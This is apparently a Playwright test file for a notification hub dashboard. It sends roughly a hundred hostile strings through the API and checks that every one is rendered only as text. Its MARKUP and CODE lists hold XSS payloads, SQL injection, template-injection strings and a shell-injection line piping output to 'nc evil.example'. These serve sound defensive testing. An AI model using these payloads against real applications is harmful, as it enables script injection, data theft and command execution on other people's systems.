"""A hundred hostile strings through the real API, in every field: shown as text, and nothing else."""

from __future__ import annotations

import http.client
import json
from collections.abc import Iterator
from typing import Any

from playwright.sync_api import Page, expect

from tests.browser.dashboard import Dashboard, StartHub, open_dashboard
from tests.hub_process import HubProcess

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</template><iframe srcdoc='<script>parent.alert(1)</script>'>",
    "</article></div><script src=//evil.example/x.js></script>",
    "\"><b onmouseover='alert(1)'>bold</b>",
    "' autofocus onfocus='alert(1)",
    "<a href='javascript:alert(1)'>click</a>",
    "<form action=//evil.example><button>send</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<object data=//evil.example></object>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<dialog open>you have won</dialog>",
    "<plaintext>",
    "&lt;b&gt; &amp; &#x3C;script&#x3E;",
]
CODE = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "${alert(1)} {{alert(1)}} #{alert(1)} <%= alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}",
    "'; DROP TABLE events; --",
    "$(touch /tmp/x) `id` | nc evil.example 1",
    '=HYPERLINK("//evil.example")',
    "data: x\nevent: gap\nid: 1-1\n\ndata: y",
    "\n\nevent: connection\ndata: {}\n\n",
    "url(//evil.example) expression(alert(1))",
    "//evil.example/x.png",
    "http://evil.example/?steal",
]
NAMES = [
    *("null", "undefined", "NaN", "0", "-0", "false", "[object Object]", "[]", "{}", '""'),
    *("__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "valueOf", "then"),
]
SCRIPTS = [
    "שלום עולם مرحبا بالعالم",
    "👩‍👩‍👧‍👦 🏳️‍🌈 ❤️ 👍🏽 🇫🇷 1️⃣",
    "z̷̡̛͓̦̐͋a̵̢̛͎l̶̨̛̲g̴̡̛͇ơ̷̧̖",
    "﷽ 𒐫 ꧁꧂ ௵",
    "ＦＵＬＬ ｗｉｄｔｈ ﬁ ligature",
    "раураl.com аррӏе.com",
    "  spaces  kept  ",
    "tab\tkept",
    "日本語 中文 한국어 ไทย हिन्दी",
    "ⁿᵒᵗ ˢᵘᵖᵉʳ 𝓯𝓪𝓷𝓬𝔂",
]
EXACT = [*MARKUP, *CODE, *NAMES, *SCRIPTS]
HIDDEN_CODES = [
    *range(0x00, 0x09),
    *(0x0B, 0x0C, 0x0D, 0x1B, 0x7F, 0x80, 0x85, 0x9B, 0xAD),
    *(0x034F, 0x061C, 0x115F, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F),
    *(0x2028, 0x2029, 0x202A, 0x202D, 0x202E, 0x2060, 0x2066, 0x2069, 0x3164, 0xFEFF),
    *(0xFFF9, 0xE0001, 0xE0041),
]
HIDDEN = [(f"a{chr(code)}b", f"a⟨U+{code:04X}⟩b") for code in HIDDEN_CODES]
PAIRS = [(text, text) for text in EXACT] + HIDDEN
AT_ONCE = 20


def chunks() -> Iterator[list[tuple[str, str]]]:
    for start in range(0, len(PAIRS), AT_ONCE):
        yield PAIRS[start : start + AT_ONCE]


def tall_dashboard(page: Page, hub: HubProcess) -> Dashboard:
    page.set_viewport_size({"width": 1280, "height": 2400})  # so that all rows of a chunk fit
    return open_dashboard(page, hub)


def test_there_are_a_hundred_of_them() -> None:
    assert len(PAIRS) >= 100


def test_hostile_text_is_shown_as_exactly_that_text(start_hub: StartHub, page: Page) -> None:
    hub = start_hub()
    dashboard = tall_dashboard(page, hub)
    sent = 0
    for chunk in chunks():
        for text, _ in chunk:
            hub.publish("notification", text, data={text: [text, {"deep": text}]})
        sent += len(chunk)
        expect(dashboard.number("received")).to_have_text(str(sent))
        expected = [shown for _, shown in reversed(chunk)]
        expect(dashboard.events.locator(".message").nth(0)).to_have_text(expected[0])
        assert dashboard.messages()[: len(chunk)] == expected
    assert page.locator("article :is(script, img, svg, iframe, b, a, form, style)").count() == 0


def test_hostile_text_in_data_is_shown_as_text_in_the_detail(
    start_hub: StartHub, page: Page
) -> None:
    hub = start_hub()
    dashboard = open_dashboard(page, hub)
    everything = {text: text for text, _ in PAIRS}
    hub.publish("notification", "look inside", data=everything)
    dashboard.event("look inside").click()
    tree = dashboard.detail.locator(".tree")
    while tree.locator(".more").count():
        tree.locator(".more").click()
    shown = tree.text_content() or ""
    for text in EXACT:
        assert json.dumps(text, ensure_ascii=False) in shown
    for code in HIDDEN_CODES:
        assert f"a{chr(code)}b" not in shown  # between letters; emoji need their joiners
    made = tree.evaluate(
        "tree => [...new Set([...tree.querySelectorAll('*')].map(e => e.tagName))]"
    )
    assert set(made) == {"DIV", "SPAN", "BUTTON", "A"}
    links = tree.locator("a").evaluate_all("links => links.map(a => [a.protocol, a.rel, a.target])")
    assert {tuple(link) for link in links} == {("http:", "noopener noreferrer", "_blank")}


def post(hub: HubProcess, body: dict[str, Any]) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", hub.port, timeout=10)
    headers = {"Content-Type": "application/json"}
    connection.request("POST", "/api/notify", json.dumps(body), headers)
    status = connection.getresponse().status
    connection.close()
    return status


def test_hostile_types_and_topics_are_refused_or_shown_as_text(
    start_hub: StartHub, page: Page
) -> None:
    """The hub lets few characters into a name; what it lets through is shown."""
    hub = start_hub()
    dashboard = tall_dashboard(page, hub)
    taken = 0
    for text, _ in PAIRS:
        for body in (
            {"type": text, "message": "as a type"},
            {"type": "notification", "message": "as a topic", "topic": text},
        ):
            status = post(hub, body)
            assert status in (200, 400, 422)
            taken += status == 200
    assert taken >= 8
    expect(dashboard.number("received")).to_have_text(str(taken))
    for name in ("constructor", "toString", "null"):
        expect(dashboard.events.locator(".badge", has_text=name).first).to_have_text(name)
        page.locator("#filter [name=type]").fill(name)
        expect(dashboard.events).to_have_count(1)
        page.locator("[data-act=clear]").click()


def test_text_of_nothing_but_hidden_characters_makes_few_elements(
    start_hub: StartHub, page: Page
) -> None:
    hub = start_hub()
    dashboard = open_dashboard(page, hub)
    for _ in range(30):
        hub.publish("notification", "a\u200b" * 4_000, data={"x": "b\u202e" * 4_000})
    expect(dashboard.number("received")).to_have_text("30")
    assert page.evaluate("document.querySelectorAll('*').length") <= 500
    dashboard.events.first.click()
    expect(dashboard.detail).to_be_visible()
    assert page.evaluate("document.querySelectorAll('*').length") <= 700
